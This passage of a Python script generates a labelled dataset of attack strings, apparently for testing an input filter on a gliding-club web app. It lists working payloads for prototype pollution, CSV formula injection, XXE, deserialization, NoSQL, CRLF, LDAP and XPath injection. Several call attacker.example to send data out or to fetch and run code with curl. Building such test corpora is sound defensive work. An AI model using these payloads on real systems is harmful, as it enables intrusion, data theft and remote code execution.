    ("proto-pollution", "__proto__[isInstructor]=true"),
    ("proto-pollution", "settings[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("proto-pollution", "constructor.prototype.shell=/proc/self/exe"),
    ("proto-pollution", "{\"glider\":\"K21\",\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('id')\"]}}"),
    ("csv-formula", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"Logbook\")"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell iwr attacker.example'!A1"),
    ("csv-formula", "-2+3+cmd|' /C notepad'!'B1'"),
    ("csv-formula", "@SUM(1,1)*cmd|'/c curl attacker.example'!A1"),
    ("csv-formula", "=WEBSERVICE(\"http://attacker.example/x?\"&C2)"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:A50),\"//a\")"),
    ("csv-formula", "\t=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("csv-formula", "2024-08-01,K8,\"=HYPERLINK(\"\"http://attacker.example\"\",\"\"Open IGC\"\")\",W,0:07"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE flight [<!ENTITY xx SYSTEM \"file:///etc/passwd\">]><flight><reg>&xx;</reg></flight>"),
    ("xxe", "<!DOCTYPE log [<!ENTITY % ext SYSTEM \"http://attacker.example/evil.dtd\"> %ext;]><log/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE kml [<!ENTITY meta SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><kml><name>&meta;</name></kml>"),
    ("xxe", "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY e SYSTEM \"file:///srv/club/.env\">]><text>&e;</text></svg>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hosts\"/>"),
    ("deserialization", "O:8:\"Booking\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAAEY21kdAACaWR4"),
    ("deserialization", "!!python/object/apply:os.system ['curl attacker.example/y|sh']"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c whoami\"]}}"),
    ("deserialization", "cos\nsystem\n(S'id'\ntR."),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: []\n  git_set: id"),
]

NOSQLI = [
    ("operator", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("operator", "{\"email\": \"cfi@club.example\", \"pin\": {\"$gt\": \"\"}}"),
    ("operator", "password[$ne]=x"),
    ("operator", "username[$regex]=^adm&password[$exists]=true"),
    ("operator", "{\"reg\": {\"$in\": [\"G-DKFA\", {\"$gt\": \"\"}]}}"),
    ("operator", "{\"role\": {\"$nin\": [\"student\"]}}"),
    ("operator", "pin[$gte]="),
    ("regex", "{\"password\": {\"$regex\": \"^a.*\"}}"),
    ("regex", "{\"name\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
    ("regex", "member[$regex]=.*"),
    ("where", "{\"$where\": \"this.role == 'admin' || sleep(5000)\"}"),
    ("where", "'; return db.members.find(); var x='"),
    ("where", "{\"$where\": \"function(){ return this.pin.match(/^1/) }\"}"),
    ("where", "1'; while(true){}; '"),
    ("where", "glider' || '1'=='1"),
    ("where", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(3000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"members\", \"localField\": \"pilot\", \"foreignField\": \"_id\", \"as\": \"p\"}}]"),
    ("aggregation", "{\"$or\": [{\"reg\": \"G-DKFA\"}, {\"_id\": {\"$exists\": true}}]}"),
    ("aggregation", "{\"pilot\": \"Okafor\", \"$comment\": \"x\", \"$or\": [{}, {\"a\": 1}]}"),
    ("json-injection", "Harris\", \"$where\": \"1==1"),
    ("json-injection", "{\"filter\":{\"badge\":\"silver\",\"owner\":{\"$ne\":\"me\"}},\"update\":{\"$set\":{\"approved\":true}}}"),
    ("couch-elastic", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("couch-elastic", "{\"query\":{\"script\":{\"script\":\"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\").getRuntime().exec(\\\"id\\\")\"}}}"),
    ("couch-elastic", "*:* OR _exists_:password"),
    ("redis", "K21\r\nFLUSHALL\r\n"),
    ("operator", "{\"$and\": [{\"date\": {\"$gte\": \"2024-01-01\"}}, {\"oo_signature\": {\"$type\": 2}}], \"pin\": {\"$ne\": 0}}"),
    ("operator", "login=cfi&password[%24ne]=wrong"),
]

CRLF = [
    ("log-forging", "Launch 14 ok\n2024-06-15 10:42:01 INFO admin login succeeded user=cfi ip=10.0.0.2"),
    ("log-forging", "G-DKFA\r\n[2024-07-01 09:00:00] AUDIT badge_claim BC-2024-0077 APPROVED by=badge_officer"),
    ("log-forging", "winch%0d%0a2024-07-01 12:00:00 WARN password reset for member 0001 ok"),
    ("log-forging", "Harris%0aINFO: payment refund 500.00 GBP issued to acct 203-113"),
    ("log-forging", "K8 solo\n\n=== LOG ROTATED ===\n"),
    ("log-forging", "note\u2028ERROR user=treasurer deleted bookings"),
    ("log-forging", "Retrieve done\r\n2024-07-02 18:11:09 INFO winch_access pin changed by=cfi source=clubhouse-pc"),
    ("header", "en-GB\r\nSet-Cookie: session=attacker-fixed-1234; Path=/"),
    ("header", "/logbook%0d%0aSet-Cookie:%20role=instructor"),
    ("header", "https://example.org/return%0D%0ALocation:%20https://attacker.example/"),
    ("header", "x%0d%0aX-Forwarded-For:%20127.0.0.1"),
    ("header", "utf-8\r\nContent-Security-Policy: default-src *"),
    ("header", "/briefings%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("header", "export.csv\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("response-splitting", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "/home\r\n\r\n<html><body>Members login moved: <a href=https://attacker.example>here</a>"),
    ("response-splitting", "%0d%0a%0d%0a<svg onload=alert(1)>"),
    ("mail-header", "pilot@example.com\r\nBcc: everyone@attacker.example"),
    ("mail-header", "Booking confirmation\nCc: list@attacker.example\nX-Spam: no"),
    ("mail-header", "Sam O'Neill%0ABcc:%20dump@attacker.example"),
    ("mail-header", "subject: wave camp\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/renew\">Renew membership</a>"),
    ("mail-header", "me@example.com\nReply-To: billing@attacker.example"),
    ("mail-header", "x@example.com%0d%0aTo:%20members-all@club.example"),
    ("mail-header", "newsletter\r\n.\r\nMAIL FROM:<cfi@club.example>\r\nRCPT TO:<victim@example.com>\r\nDATA"),
    ("csv-row", "Harris\n2024-08-02,Duo Discus,G-DUOD,A,5:10,Harris,\"Gold distance approved\""),
    ("csv-row", "0:16\r\n2024-06-30,Ventus,G-CVNT,A,11:00,17:00,6:00,self,\"Diamond goal 500 km\""),
    ("csv-row", "field landing\"\n=HYPERLINK(\"http://attacker.example\",\"IGC\")"),
    ("csv-row", "O'Neill;K21;W\n2024-05-01;K21;W;0:45;Instructor sign-off: CFI"),
    ("header", "W\r\nX-Accel-Redirect: /internal/members.csv"),
    ("log-forging", "G-BXYZ%0D%0A127.0.0.1 - admin [01/Jul/2024:09:00:00 +0000] \"GET /admin HTTP/1.1\" 200"),
]

LDAP_XPATH = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "admin)(&)"),
    ("ldap", "okafor)(|(objectClass=*)"),
    ("ldap", "*)(userPassword=*)"),
    ("ldap", "cfi*)(memberOf=cn=instructors,ou=groups,dc=club,dc=example)(cn=*"),
    ("ldap", "x)(|(description=*pin*)"),
    ("ldap", "\\2a)(uid=\\2a"),
    ("ldap", "harris)(!(uid=nobody"),
    ("ldap", "*))%00"),
    ("ldap", "sam)(mail=*@attacker.example))(|(cn=x"),
    ("xpath", "' or '1'='1"),
    ("xpath", "x' or name()='username' or 'x'='y"),
    ("xpath", "G-DKFA'] | //member/password | //x['"),
    ("xpath", "' or count(//member[role='admin'])>0 or '"),
    ("xpath", "1' and substring(//member[1]/pin,1,1)='4"),
    ("xpath", "']/../../*[name()='secrets'] | //*['"),
    ("xpath", "') or true() or ('"),
    ("xpath", "' or string-length(//user[1]/password)=8 or '"),
    ("xpath", "*[contains(.,'K21')] | doc('http://attacker.example/x.xml')//a"),
    ("xpath", "Okafor' or //badge[@claim='BC-2024-0077']/@approved='yes' and '1'='1"),
]

SQLI_ENC = ["G-DEAN' OR 1=1 LIMIT 1-- ", "1' UNION SELECT login, pw FROM instructors#", "x'; UPDATE badge_claims SET status='approved'--"]
TRAV_ENC = ["../../../../etc/passwd", "..\\..\\..\\boot.ini", "../../../srv/club/config/secrets.yml", "igc/../../../../proc/self/environ"]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])

    rows = []
    seen = set()

    def add(cat, cls, v):
        assert 1 <= len(v) <= 2000, v
        for ch in v:
            assert ch in "\n\r\t" or ord(ch) >= 32 and not (0x7f <= ord(ch) < 0xa0), repr(v)
        assert v not in seen, ("dup", v)
        assert v not in benign, ("benign", v)
        seen.add(v)
        rows.append((cat, cls, v))

    def joined(cat, pool, n):
        made = 0
        tries = 0
        while made < n:
            tries += 1
            assert tries < 1000
            v = rng.choice(PREFIXES) + rng.choice(pool)
            if v in seen or v in benign:
                continue
            add(cat, "pool-join", v)
            made += 1

    for c, v in SQLI:
        add("sqli", c, v)
    for v in SQLI_ENC:
        add("sqli", "boolean+urlencode" if "OR" in v else ("union+urlencode" if "UNION" in v else "stacked+urlencode"), pct_all(v))
    joined("sqli", SQLI_POOL, 2)
    for c, v in XSS:
        add("xss", c, v)
    joined("xss", XSS_POOL, 5)
    for c, v in CMDI:
        add("cmdi", c, v)
    joined("cmdi", CMDI_POOL, 3)
    for c, v in TRAVERSAL:
        add("traversal", c, v)
    for v in TRAV_ENC:
        add("traversal", "dotdot+urlencode", pct_all(v))
    for c, v in SSRF:
        add("ssrf", c, v)
    for c, v in CODE:
        add("code", c, v)
    for c, v in NOSQLI:
        add("nosqli", c, v)
    for c, v in CRLF:
        add("crlf", c, v)
    for c, v in LDAP_XPATH:
        add("ldap-xpath", c, v)

    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "halw-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
